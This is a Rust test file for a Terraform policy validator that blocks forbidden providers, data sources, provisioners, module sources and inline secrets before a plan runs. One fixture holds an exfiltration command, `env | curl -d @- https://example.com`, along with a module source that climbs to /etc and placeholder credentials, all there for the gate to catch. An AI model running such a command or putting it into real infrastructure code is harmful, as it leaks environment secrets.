//! `--config` alone, with the real binary: what it refuses, what it judges, what it leaves to the plan.

#![allow(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    clippy::allow_attributes,
    reason = "tests start processes and write files"
)]

use std::path::Path;
use std::process::Command;

const POLICY: &str = "\
version: 1
rules:
  - id: no-ssh-from-the-internet
    severity: critical
    deny: { direction: ingress, protocol: tcp, ports: [22], peers: internet }
";

fn write(folder: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// What a reader sees of a run in a folder with these files. Nothing is in the environment: no credential, no PATH.
fn seen(files: &[(&str, &str)], more: &[&str]) -> String {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), files);
    if !files.iter().any(|(name, _)| *name == "policy.yaml") {
        write(folder.path(), &[("policy.yaml", POLICY)]);
    }
    run(folder.path(), more)
}

fn program(folder: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis-validate"));
    command
        .current_dir(folder)
        .env_clear()
        .env("PORTCULLIS_NOW", "2026-11-24T12:00:00Z");
    command
}

fn run(folder: &Path, more: &[&str]) -> String {
    let output = program(folder)
        .args(["--policy", "policy.yaml"])
        .args(if more.contains(&"--explain") {
            &[][..]
        } else {
            &["--config", "code"]
        })
        .args(more)
        .output()
        .unwrap();
    format!(
        "exit {}\n{}{}",
        output.status.code().unwrap(),
        String::from_utf8(output.stdout).unwrap(),
        String::from_utf8(output.stderr).unwrap()
    )
    .replace(&folder.display().to_string(), "FOLDER")
}

#[test]
fn what_must_not_run_is_stopped_before_there_is_a_plan() {
    insta::assert_snapshot!(
        "gate",
        seen(
            &[
                (
                    "code/main.tf",
                    r#"terraform {
  required_providers {
    aws   = { source = "hashicorp/aws", version = "5.31.0" }
    shell = { source = "registry.terraform.io/scottwinkler/shell" }
  }
  backend "http" {
    password = "not-to-be-shown"
  }
}

provider "aws" {
  access_key = "AKIANOTTOBESHOWN"
}

data "external" "secrets" {
  program = ["sh", "-c", "env | curl -d @- https://example.com"]
}

data "http" "where" {
  url = "https://example.com"
}

resource "null_resource" "run" {
  provisioner "local-exec" {
    command = "env"
  }
}

module "pinned" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.1.2"
}

module "loose" {
  source = "git::https://example.com/vpc.git?ref=main"
}

module "inside" {
  source = "./modules/inside"
}

module "outside" {
  source = "../../../../../../etc"
}

check "site" {
  data "http" "answer" {
    url = "https://example.com"
  }
}
"#
                ),
                (
                    "code/modules/inside/main.tf.json",
                    r#"{"data": {"external": {"json": {"program": ["sh"]}}}}"#
                ),
                ("code/modules/unused/main.tf", "data \"external\" \"unused\" {}\n"),
            ],
            &[]
        )
    );
}

#[test]
fn nothing_hides_behind_another_of_its_name() {
    let evil = "module \"m\" {\n  source = \"./evil\"\n}\n";
    let good = "module \"m\" {\n  source = \"./good\"\n}\n";
    let data = "data \"external\" \"x\" {}\n";
    for files in [
        // terraform reads the first, tofu the second.
        vec![
            ("code/main.tf", evil),
            ("code/main.tofu", good),
            ("code/evil/main.tf", data),
            ("code/good/main.tf", ""),
        ],
        vec![("code/main.tf", ""), ("code/#main.tf", data)],
        vec![("code/main.tf", ""), ("code/override.tf", data)],
        vec![("code/main.tf", "\u{feff}data \"external\" \"x\" {}\n")],
    ] {
        let told = seen(&files, &[]);
        assert!(
            told.contains("configuration/forbidden-data-source"),
            "{files:?}\n{told}"
        );
    }
}

#[test]
fn terraform_is_not_started_on_code_that_is_refused() {
    let files = [(
        "code/main.tf",
        "data \"external\" \"x\" {\n  program = [\"sh\"]\n}\n",
    )];
    // A terraform that is not there would end with 64.
    let told = seen(&files, &["--with-terraform", "--terraform", "/no/such/terraform"]);
    assert!(told.starts_with("exit 1\n"), "{told}");
    let told = seen(
        &[("code/main.tf", "")],
        &["--with-terraform", "--terraform", "/no/such/terraform"],
    );
    assert!(told.starts_with("exit 64\n"), "{told}");
}

#[test]
fn the_policy_says_what_is_allowed() {
    let policy = format!(
        "{POLICY}configuration:\n  providers: [\"hashicorp/*\", \"scottwinkler/*\"]\n  modules: [\"git::https://example.com/*\"]\n  \
         forbid_data: [\"aws_iam_*\"]\n  provisioners: [file]\n  backends: [http]\n  pinned_modules: false\n"
    );
    insta::assert_snapshot!(
        "gate-by-policy",
        seen(
            &[
                ("policy.yaml", policy.as_str()),
                (
                    "code/main.tf",
                    r#"terraform {
  backend "s3" {}
}
data "external" "allowed" {}
data "aws_iam_policy" "forbidden" {}
data "shell_script" "x" {}
module "loose" { source = "git::https://example.com/vpc.git" }
module "registry" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.1.2"
}
resource "aws_instance" "x" {
  provisioner "file" {}
  provisioner "remote-exec" {}
}
"#
                ),
            ],
            &[]
        )
    );
    let wrong = format!("{POLICY}configuration:\n  provider: []\n");
    insta::assert_snapshot!(
        "gate-key-not-known",
        seen(&[("policy.yaml", wrong.as_str()), ("code/main.tf", "")], &[])
    );
}

#[test]
fn rules_are_judged_as_far_as_the_code_tells() {
    let files = [
        (
            "code/main.tf",
            r#"variable "open" {
  type    = list(string)
  default = ["10.0.0.0/8"]
}
variable "how_many" {}
module "service" {
  source = "../modules/service"
  open   = var.open
}
resource "aws_security_group" "maybe" {
  count = var.how_many
  ingress {
    protocol    = "tcp"
    from_port   = 22
    to_port     = 22
    cidr_blocks = ["0.0.0.0/0"]
  }
}
resource "aws_vpc_security_group_ingress_rule" "later" {
  security_group_id = module.service.id
  ip_protocol       = "tcp"
  from_port         = 22
  to_port           = 22
  cidr_ipv4         = "${data.aws_instance.bastion.public_ip}/32"
}
"#,
        ),
        (
            "modules/service/main.tf",
            r#"variable "open" { type = list(string) }

resource "aws_security_group" "this" {
  dynamic "ingress" {
    for_each = var.open
    content {
      protocol    = "tcp"
      from_port   = 20
      to_port     = 25
      cidr_blocks = [ingress.value]
    }
  }
}
output "id" { value = aws_security_group.this.id }
"#,
        ),
        ("values.tfvars", "open = [\"0.0.0.0/1\", \"128.0.0.0/1\"]\n"),
    ];
    // What is unknown is no reason to stop a commit.
    insta::assert_snapshot!("early-pass", seen(&files, &[]));
    insta::assert_snapshot!("early-violation", seen(&files, &["--var-file", "values.tfvars"]));
    // As in a job, where GitLab's variables give the values.
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &files);
    write(folder.path(), &[("policy.yaml", POLICY)]);
    for (value, code) in [("[\"0.0.0.0/0\"]", 1), ("[]", 0), ("[", 65)] {
        let output = program(folder.path())
            .args(["--policy", "policy.yaml", "--config", "code"])
            .env("TF_VAR_open", value)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(code), "{value}");
    }
}

#[test]
fn bad_code_is_named_with_its_place() {
    let mut told = String::new();
    for files in [
        [(
            "code/main.tf",
            "resource \"aws_security_group\" \"x\" {\n  name = = 1\n}\n",
        )],
        [("code/main.tf.json", "{\n  \"resource\": \n}")],
        [("code/notes.md", "no code")],
        [(
            "code/main.tf",
            "\n\nresource \"aws_security_group\" \"x\" {\n  ingress {\n    protocol = \"tcp\"\n    from_port = 9\n    to_port = 8\n    cidr_blocks = [\"10.0.0.0/8\"]\n  }\n}\n",
        )],
    ] {
        told += &seen(&files, &[]);
    }
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &[("policy.yaml", POLICY), ("code/a.tf", "")]);
    std::fs::write(folder.path().join("code/main.tf"), [b'#', 0xff, 0xfe, b'\n']).unwrap();
    told += &run(folder.path(), &[]);
    insta::assert_snapshot!("bad-code", told);
}

#[cfg(unix)]
#[test]
fn links_in_a_circle_and_modules_elsewhere_are_not_followed() {
    let folder = tempfile::tempdir().unwrap();
    let away = tempfile::tempdir().unwrap();
    write(away.path(), &[("main.tf", "data \"external\" \"away\" {}\n")]);
    write(
        folder.path(),
        &[
            ("policy.yaml", POLICY),
            (
                "code/main.tf",
                "module \"again\" {\n  source = \"./loop/loop\"\n}\nmodule \"away\" {\n  source = \"./away\"\n}\n",
            ),
        ],
    );
    std::os::unix::fs::symlink(".", folder.path().join("code/loop")).unwrap();
    std::os::unix::fs::symlink(away.path(), folder.path().join("code/away")).unwrap();
    insta::assert_snapshot!("links", run(folder.path(), &[]));
}

#[test]
fn each_rule_of_the_gate_is_explained() {
    let told: String = [
        "provider",
        "module-source",
        "module-pin",
        "forbidden-data-source",
        "provisioner",
        "backend",
        "inline-secret",
    ]
    .iter()
    .map(|rule| seen(&[], &["--explain", &format!("configuration/{rule}")]))
    .collect();
    insta::assert_snapshot!("explained", told);
}

/// `docs/configuration.md` tells the truth: its files are read, and its command prints what stands below it.
#[test]
fn the_page_shows_what_is_printed() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/configuration.md");
    let page = std::fs::read_to_string(path).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let blocks = |language: &str| -> Vec<String> {
        page.split(&format!("```{language}\n"))
            .skip(1)
            .map(|rest| rest.split("```").next().unwrap().to_owned())
            .collect()
    };
    for block in blocks("hcl").iter().chain(&blocks("yaml")) {
        let name = block.lines().next().unwrap().strip_prefix("# ").unwrap();
        write(folder.path(), &[(name, block)]);
    }
    for block in blocks("console") {
        let (command, shown) = block.split_once('\n').unwrap();
        let arguments = command.strip_prefix("$ portcullis-validate ").unwrap();
        let arguments = arguments.strip_suffix(" || echo \"exit code $?\"").unwrap();
        let output = program(folder.path())
            .args(arguments.split_whitespace())
            .output()
            .unwrap();
        let said = String::from_utf8(output.stdout).unwrap();
        assert_eq!(
            format!("{said}exit code {}\n", output.status.code().unwrap()),
            shown,
            "{command}"
        );
    }
    // The second policy is valid, too.
    let output = program(folder.path())
        .args(["--config", "terraform", "--policy", "own.yaml"])
        .output()
        .unwrap();
    let code = output.status.code();
    assert_eq!(code, Some(1));
}
